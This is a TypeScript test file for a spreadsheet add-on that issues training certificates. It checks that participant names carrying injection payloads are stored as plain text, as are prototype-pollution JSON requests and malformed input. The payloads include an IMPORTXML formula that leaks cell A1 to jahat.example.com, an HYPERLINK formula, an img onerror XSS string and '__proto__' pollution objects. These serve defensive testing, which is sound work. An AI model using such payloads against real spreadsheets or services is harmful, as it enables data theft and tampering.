import type { BookSheet } from "../../samples/write-book";
import { papersOf, registerOf } from "./certificates-of";
import { type Office, openOffice } from "./office";
import { standardClass } from "./standard-class";

const AT = { now: "2026-03-02T10:00:00+07:00" } as const;
const OWN = ["Temuan", "Kelulusan", "Register Sertifikat", "Log"];

const FORMULA = '=IMPORTXML("https://jahat.example.com/?"&A1;"//a")';
const NAMES = [FORMULA, "+62 Contoh", "@Budi Contoh", "-Ani Contoh", '=HYPERLINK("https://jahat.example.com")', '<img src=x onerror="alert(1)"> Contoh', "${process.env} Contoh", "{{NOMOR}} Contoh"];

async function throughAllSteps(book: readonly BookSheet[]): Promise<Office> {
  const office = await openOffice(book);
  office.ask("checkEnrollment", {}, AT);
  office.ask("computeCompletion", {}, AT);
  office.issueUntilDone(AT);
  return office;
}

describe("text that pretends to be something else", () => {
  test("is never a formula in a tab of the add-on", async () => {
    const office = await throughAllSteps(standardClass(NAMES.map((name) => ({ name }))));
    const formulas = office.host.show().sheets.filter(({ name }) => OWN.includes(name)).flatMap((sheet) => sheet.formulas.flat()).filter((formula) => formula !== "");
    expect(formulas.filter((formula) => /jahat|IMPORT|\+62|@Budi/.test(formula))).toEqual([]);
    expect(registerOf(office).map(({ name }) => name)).toEqual(NAMES);
  });

  test("is printed as it was typed, and not filled in once more", async () => {
    const office = await throughAllSteps(standardClass(NAMES.map((name) => ({ name }))));
    for (const { name, number } of registerOf(office)) {
      const paper = papersOf(office).find(({ text }) => text.includes(number));
      expect(paper?.text).toContain(name);
    }
  });
});

describe("words that mean something to the language", () => {
  const WORDS = ["__proto__", "constructor", "toString", "hasOwnProperty", "valueOf"];

  test("are codes of people and of programmes like any other", async () => {
    const book = standardClass(WORDS.map((code, at) => ({ name: `Peserta ${"ABCDE"[at]} Contoh`, code })));
    const office = await throughAllSteps(book);
    expect(registerOf(office).map(({ person, state }) => [person, state])).toEqual(WORDS.map((code) => [code, "terbit"]));
  });

  test("in a request change nothing for anybody", async () => {
    const office = await openOffice(standardClass([{ name: "Ani Contoh" }]));
    const before = office.host.show();
    for (const action of ["saveSettings", "saveMapping", "saveLegend", "decide", "confirm", "verifyCertificate"]) {
      const text = '{"__proto__":{"polluted":"ya"},"constructor":{"prototype":{"polluted":"ya"}},"values":{"__proto__":"x"}}';
      expect(office.host.call(action, text, AT).ok).toBe(true);
    }
    expect(office.host.show()).toEqual(before);
  });

  test("that are no request at all are refused in a sentence", async () => {
    const office = await openOffice(standardClass([{ name: "Ani Contoh" }]));
    for (const text of ["", "null", "[]", "42", "{", '"x"', "x".repeat(200_000)]) {
      const report = office.host.call("decide", text, AT);
      expect(report.ok && JSON.parse(String(report.value))).toMatchObject({ ok: false, error: { code: "bad-request", message: expect.stringMatching(/./), remedy: expect.stringMatching(/./) } });
    }
  });
});

describe("a sheet that is far too large", () => {
  test("with 200 columns beside the list is checked like any other", async () => {
    const wide = standardClass([{ name: "Ani Contoh", nik: "12" }]).map((sheet): BookSheet => (sheet.name === "Peserta" ? { ...sheet, rows: sheet.rows.map((row, at) => [...row, ...Array.from({ length: 200 }, (_, column) => (at === 0 ? `Lain ${column}` : "x"))]) } : sheet));
    const office = await openOffice(wide);
    expect(office.ask("checkEnrollment", {}, AT).findings.map(({ code }) => code)).toContain("nik-length");
  });

  test("with a cell as long as Sheets allows is a finding at that cell, in a message of ordinary length", async () => {
    const office = await openOffice(standardClass([{ name: "A".repeat(49_000) }]));
    const { findings } = office.ask("checkEnrollment", {}, AT);
    const ofName = findings.filter(({ cells }) => cells.includes("Peserta!C2"));
    expect(ofName.length).toBeGreaterThan(0);
    expect(Math.max(...findings.map(({ message }) => message.length))).toBeLessThan(1_000);
  });
});
